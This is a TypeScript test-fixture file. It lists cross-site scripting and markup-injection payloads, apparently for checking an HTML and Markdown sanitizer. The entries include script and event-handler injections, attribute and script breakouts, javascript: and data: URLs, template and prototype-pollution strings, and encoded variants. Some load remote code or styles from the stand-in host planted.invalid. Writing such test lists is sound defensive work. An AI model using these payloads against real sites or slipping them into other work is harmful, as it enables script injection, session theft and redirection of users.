// Texts that would do something if any page, style, script, book, table or terminal took them for more than words.
// Each would call `hit()`, ask for `planted.invalid`, or change how a page looks. From memory, by the places where markup
// can begin: between tags, in a tag, in an attribute, an address, a style, a script, a drawing, a template.

const CALL = 'hit()';
const AWAY = 'https://planted.invalid/x';

export const MARKUP: readonly string[] = [
  // Between tags.
  `<script>${CALL}</script>`,
  `</title></style></textarea><script>${CALL}</script>`,
  `<ScRiPt src=${AWAY}.js></sCrIpT>`,
  `<script/x>${CALL}</script\n>`,
  `<<script>${CALL}//<</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src="x"/onerror="${CALL}">`,
  `<img src=x:x onerror\n=\n${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>#x"></use></svg>`,
  `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${CALL}>">`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<style>body{display:none}@import "${AWAY}.css";</style>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[><script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  // Out of an attribute.
  `" onmouseover="${CALL}" autofocus onfocus="${CALL}" x="`,
  `' onmouseover='${CALL}' autofocus onfocus='${CALL}' x='`,
  `\` onmouseover=${CALL} x=\``,
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `x style="position:fixed;inset:0;background:url(${AWAY}.png)"`,
  // Addresses.
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}//`,
  `java\tscript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `//planted.invalid/x.js`,
  // Out of a script, of JSON in it, or of a style.
  `</script><script>${CALL}</script>`,
  `<!--<script>`,
  `"};${CALL};//`,
  `';${CALL};//`,
  `\\"-${CALL}-"`,
  `\u2028${CALL}\u2029`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `__proto__[innerHTML]=<img src=x onerror=${CALL}>`,
  `red;} body{display:none} a{background:url(javascript:${CALL})`,
  // Written as entities or escapes, to be undone once too often.
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];

/** The same as Markdown has them: links, pictures, references, tables, code. Raw HTML is refused in a body. */
export const MARKDOWN_MARKUP: readonly string[] = [
  `[link](javascript:${CALL})`,
  `[link](JaVaScRiPt:${CALL})`,
  `[link](java&#x73;cript:${CALL})`,
  `[link](\u0001javascript:${CALL})`,
  `[link](vbscript:${CALL})`,
  `[link](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)`,
  `[link](//planted.invalid/x)`,
  `[link](https://example.org/"onmouseover="${CALL})`,
  `[link](https://example.org 'x" onmouseover="${CALL}')`,
  `[ref]\n\n[ref]: javascript:${CALL} "x"`,
  `![picture](${AWAY}.png)`,
  `![picture](javascript:${CALL})`,
  `![x" onerror="${CALL}](x.png)`,
  `\\<img src=x onerror=${CALL}>`,
  `\`<script>${CALL}</script>\``,
  `    <script>${CALL}</script>`,
  `\`\`\`"><script>${CALL}</script>\n<script>${CALL}</script>\n\`\`\``,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `| \\<svg onload=${CALL}> | b |\n| --- | --- |\n| \`<img src=x onerror=${CALL}>\` | b |`,
  `- [x] \\<input onfocus=${CALL} autofocus>`,
  `https://planted.invalid/x?"onmouseover="${CALL}`,
  `Foot[^1].\n\n[^1]: \\<script>${CALL}\\</script>`,
];

/** Every n-th text of a list from the k-th on, so that n files hold all of them. */
export const share = (texts: readonly string[], k: number, n: number): string[] =>
  texts.filter((_, i) => i % n === k % n);
